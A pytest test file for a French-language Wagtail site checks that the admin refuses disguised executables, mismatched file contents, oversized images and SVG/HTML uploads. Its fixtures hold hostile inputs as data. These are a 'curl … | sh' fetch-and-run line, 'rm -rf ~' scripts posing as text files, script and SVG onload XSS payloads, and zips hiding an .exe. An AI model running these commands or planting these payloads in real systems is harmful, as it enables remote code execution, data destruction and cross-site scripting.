"""Uploads through the Wagtail admin: images and documents of the allowed kinds and sizes
only, and documents checked by their content, so that a program renamed "bilan.pdf" or
"photo.png" is refused with a French message."""

import struct
import zlib

import pytest

from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection

from tests import document_files
from tests.document_files import docx

pytestmark = pytest.mark.django_db

EXECUTABLES = {
    "windows": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200,
    "linux": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,
    "script": b"#!/bin/sh\ncurl https://example.org/x | sh\n",
}
PROGRAM_REFUSED = "Ce fichier est un programme ou un script, pas un document : il a été refusé."
MISMATCH_REFUSED = "Le contenu de ce fichier ne correspond pas à son extension « .pdf »"
SMALL_PDF = document_files.pdf()


def png(width=4, height=3, padding=0) -> bytes:
    """A real PNG (grey, 1 bit per pixel), followed by ``padding`` bytes after its end."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = (b"\x00" + b"\xff" * ((width + 7) // 8)) * height
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
        + b"\x00" * padding
    )


@pytest.fixture
def admin_client(client):
    user = get_user_model().objects.create_superuser("chef", "chef@example.org", "motdepasse")
    client.force_login(user)
    return client


def add_document(client, name, content, title="Bilan 2023"):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": title,
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def add_image(client, name, content, title="Photo du fablab"):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": title,
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def file_errors(response) -> str:
    assert response.status_code == 200  # the form again, with the error under the file
    errors = " ".join(response.context["form"].errors["file"])
    assert errors in response.content.decode().replace("&#x27;", "'")
    return errors


def refused(response, message):
    assert message in file_errors(response)


@pytest.mark.parametrize("kind", EXECUTABLES)
@pytest.mark.parametrize("name", ["bilan.pdf", "bilan.docx", "notes.txt", "tableau.csv"])
def test_a_program_renamed_as_a_document_is_refused(admin_client, kind, name):
    refused(add_document(admin_client, name, EXECUTABLES[kind]), PROGRAM_REFUSED)
    assert not Document.objects.exists()


def test_a_document_whose_content_is_not_its_extension_is_refused(admin_client):
    refused(add_document(admin_client, "bilan.pdf", docx()), MISMATCH_REFUSED)
    refused(
        add_document(admin_client, "bilan.pdf", b"<html><script>alert(1)</script></html>"),
        MISMATCH_REFUSED,
    )
    refused(
        add_document(admin_client, "rapport.docx", SMALL_PDF),
        "ne correspond pas à son extension « .docx »",
    )
    assert not Document.objects.exists()


def test_a_document_of_a_kind_not_allowed_is_refused(admin_client):
    for name in ("setup.exe", "page.html", "dessin.svg"):
        refused(add_document(admin_client, name, b"anything"), "n’est pas autorisée")
    assert not Document.objects.exists()


def test_real_documents_are_accepted(admin_client):
    for name, content in [
        ("bilan.pdf", SMALL_PDF),
        ("rapport.docx", docx()),
        ("participants.csv", "nom;commune\nLéa;Brest\n".encode()),
    ]:
        response = add_document(admin_client, name, content, title=name)
        assert response.status_code == 302, (name, response.content.decode()[:3000])
    assert set(Document.objects.values_list("title", flat=True)) == {
        "bilan.pdf",
        "rapport.docx",
        "participants.csv",
    }


def test_the_multiple_upload_checks_the_content_too(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile("bilan.pdf", EXECUTABLES["windows"])},
    )
    assert response.json()["success"] is False
    assert PROGRAM_REFUSED in response.json()["error_message"]
    assert not Document.objects.exists()


@pytest.mark.parametrize("kind", EXECUTABLES)
def test_a_program_renamed_as_an_image_is_refused(admin_client, kind):
    refused(add_image(admin_client, "photo.png", EXECUTABLES[kind]), "Transférez une image valide")
    assert not Image.objects.exists()


def test_an_image_too_heavy_or_too_large_is_refused(admin_client):
    # A valid image, padded past WAGTAILIMAGES_MAX_UPLOAD_SIZE (10 Mo).
    heavy = png(padding=10 * 1024 * 1024)
    refused(add_image(admin_client, "lourde.png", heavy), "Ce fichier est trop gros")
    # A small file declaring 8,000 × 7,000 pixels, past WAGTAILIMAGES_MAX_IMAGE_PIXELS.
    huge = png(width=8000, height=7000)
    assert len(huge) < 100_000
    refused(add_image(admin_client, "immense.png", huge), "trop grand nombre de pixels")
    refused(add_image(admin_client, "dessin.svg", b"<svg onload='alert(1)'/>"), "Format d")
    assert not Image.objects.exists()


def test_a_real_small_image_is_accepted(admin_client):
    response = add_image(admin_client, "photo.png", png())
    assert response.status_code == 302
    assert Image.objects.get().title == "Photo du fablab"


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200


@pytest.mark.parametrize(
    "name,content,message",
    [
        # Starts like a PDF, goes on as a Linux program: pypdf finds no PDF in it.
        ("bilan.pdf", b"%PDF-1.4\n" + ELF, MISMATCH_REFUSED),
        ("bilan.pdf", b" " + SMALL_PDF, MISMATCH_REFUSED),
        # A zip holding a program, named as a Word document.
        (
            "rapport.docx",
            document_files.archive(("payload.exe", b"MZ" + b"\x00" * 100)),
            "ne correspond pas à son extension « .docx »",
        ),
        # A real Word package with a program slipped in.
        (
            "rapport.docx",
            docx(("word/media/payload.exe", b"MZ" + b"\x00" * 100)),
            "ne correspond pas à son extension « .docx »",
        ),
        ("notes.txt", b"\xef\xbb\xbf#!/bin/sh\nrm -rf ~\n", PROGRAM_REFUSED),
        ("notes.txt", b"\n#!/bin/sh\nrm -rf ~\n", PROGRAM_REFUSED),
        ("tableau.csv", b"  \r\n#!/usr/bin/env python\n", PROGRAM_REFUSED),
    ],
)
def test_a_program_disguised_past_the_first_bytes_is_refused(admin_client, name, content, message):
    refused(add_document(admin_client, name, content), message)
    assert not Document.objects.exists()


def test_an_opendocument_text_is_accepted_and_a_fake_one_refused(admin_client):
    assert add_document(admin_client, "compte-rendu.odt", document_files.odt()).status_code == 302
    fake = document_files.archive(("mimetype", "application/x-msdownload"), ("a.exe", b"MZ"))
    refused(add_document(admin_client, "faux.odt", fake, title="Faux"), "« .odt »")
    assert list(Document.objects.values_list("title", flat=True)) == ["Bilan 2023"]
